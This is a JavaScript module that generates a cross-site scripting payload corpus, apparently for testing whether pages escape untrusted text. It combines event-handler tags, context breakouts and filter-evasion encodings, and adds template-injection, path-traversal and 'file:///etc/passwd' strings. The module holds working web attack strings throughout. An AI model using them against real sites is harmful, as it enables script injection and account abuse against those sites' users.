// Texts that would run a script if any of them ever became markup, an address or code: every tag
// that can carry one, with what fires it, in the places that text gets into, written in the ways
// that fool filters.
const call = "ran()";

// What stands in an attribute: [attributes that make the event happen by itself]
const fires = [
  ["img", "src=x onerror=@"], ["img", "src=x: onerror=@"], ["image", "src=x onerror=@"],
  ["svg", "onload=@"], ["svg", "><animate onbegin=@ attributeName=x dur=1s>"],
  ["svg", "><set onbegin=@ attributename=x>"], ["svg", "><image href=x onerror=@ />"],
  ["svg", "><use href=\"data:image/svg+xml,<svg id=x onload=@>#x\">"], ["body", "onload=@"],
  ["body", "onpageshow=@"], ["video", "src=x onerror=@"], ["video", "><source onerror=@>"],
  ["audio", "src=x onerror=@"], ["input", "autofocus onfocus=@"], ["select", "autofocus onfocus=@"],
  ["textarea", "autofocus onfocus=@"], ["button", "autofocus onfocus=@"],
  ["details", "open ontoggle=@"], ["iframe", "src=javascript:@"],
  ["iframe", "srcdoc=\"<script>parent.@</script>\""], ["iframe", "onload=@"],
  ["object", "data=javascript:@"], ["object", "data=x onerror=@"], ["embed", "src=javascript:@"],
  ["embed", "src=x onerror=@"], ["link", "rel=stylesheet href=x onerror=@"], ["style", "onload=@"],
  ["marquee", "onstart=@"], ["div", "onpointerrawupdate=@ style=position:fixed;inset:0"],
  ["a", "href=javascript:@ autofocus onfocus=@"],
  ["form", "><button formaction=javascript:@ autofocus onfocus=@>"],
  ["meta", "http-equiv=refresh content=\"0;url=javascript:@\""], ["base", "href=javascript:@//"],
  ["math", "><a xlink:href=javascript:@>x</a>"], ["template", "><img src=x onerror=@>"],
  ["dialog", "open onfocusin=@ autofocus tabindex=1"], ["x", "onfocus=@ autofocus tabindex=1"],
  ["x", "onanimationstart=@ style=animation:nod"],
  ["noscript", "><img title=\"</noscript><img src=x onerror=@>\">"],
];
// The places in which a careless page puts text, as what must be left first.
const breaks = [
  "", "\">", "'>", "\"'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>",
  "</bdi>", "</option></select>", "` ",
];
// The ways of writing it.
const encodings = {
  plain: (text) => text,
  upper: (text) =>
    text.replace(/<(\/?)(\w+)/g, (all, slash, tag) => `<${slash}${tag.toUpperCase()}`),
  slashes: (text) => text.replace(/<(\w+) /g, "<$1/"),
  newlines: (text) => text.replace(/<(\w+) /g, "<$1\n\t"),
  named: (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  numbers: (text) => text.replace(/[<>"'()]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  hex: (text) => text.replace(/[<>"'()]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  percent: (text) => encodeURIComponent(text),
  escapes: (text) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  wide: (text) => text.replace(/[<>]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  zeros: (text) => text.replace(/<(\w)(\w+)/g, "<$1\u0000$2"),
  turned: (text) => `\u202e${text}\u2066`,
};
const alone = [
  "<script>@</script>", "<script src=data:,@></script>", "<script>/*", "*/@</script>",
  "<<script>@//<</script>", "<scr<script>ipt>@</scr</script>ipt>", "javascript:@", "JaVaScRiPt:@",
  "java\tscript:@", "data:text/html,<script>@</script>", "vbscript:@",
  "{{constructor.constructor('@')()}}", "${@}", "#{@}", "<%= @ %>", "{@}", "[[@]]", "{{@}}",
  "';@;//", "\";@;//", "`;@;//", "\\\";@;//", "</script><script>@</script>",
  "<!--<script>@</script>-->", "<?xml version=\"1.0\"?><script>@</script>", "//@", "on\u2028;@",
  "__proto__", "constructor", "toString", "hasOwnProperty", "https://x.example/\"onmouseover=@//",
  "https://x.example/<img src=x onerror=@>", "http://javascript:@@x.example",
  "https://x.example/'onclick='@", "blob:@", "file:///etc/passwd", "https://[::1]/<svg onload=@>",
  "../../../api/me", "%2e%2e/%2e%2e/api/sign-out", "\u0000<img src=x onerror=@>",
  "\ufeff<script>@</script>", "\ud800<img src=x onerror=@>",
  "e\u0301".repeat(200) + "<svg onload=@>",
];

export function payloads() {
  const all = new Set(alone.map((text) => text.replaceAll("@", call)));
  const ways = Object.values(encodings);
  fires.forEach(([tag, rest], i) => {
    const inside = rest.startsWith(">") ? `<${tag}${rest}` : `<${tag} ${rest}>`;
    // Every tag as it is in every place, and in every way of writing in one place of its own.
    for (const lead of breaks) all.add(lead + inside.replaceAll("@", call));
    for (const [k, way] of ways.entries()) {
      const lead = breaks[(i + k) % breaks.length];
      all.add(way(lead + inside.replaceAll("@", call)));
    }
  });
  return [...all];
}
